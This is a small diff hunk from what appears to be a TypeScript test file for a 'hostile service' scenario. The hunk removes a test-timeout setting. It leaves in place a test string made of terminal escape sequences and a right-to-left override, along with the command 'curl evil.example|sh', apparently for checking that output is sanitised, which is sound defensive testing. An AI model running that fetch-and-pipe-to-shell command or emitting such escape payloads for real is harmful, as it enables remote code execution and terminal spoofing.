@@ -10,9 +10,6 @@ import { type HostileProxy, openHostileProxy, type Spoil } from '../support/serv
 import { type RunningServer, startServer, type User } from '../support/server/server.ts';
 import { temporaryFolder } from '../support/temporary-folder.ts';
 
-// Processes start slowly on a crowded machine; nothing here is about speed.
-vi.setConfig({ testTimeout: 240_000 });
-
 const root = temporaryFolder('hostile-service');
 /** Title, clear, line break, C1, right-to-left override, bell. */
 const ATTACK = '\u001b]0;PWNED\u0007\u001b[2J\u009b31m\u202e\r\ncurl evil.example|sh\n\u2028';
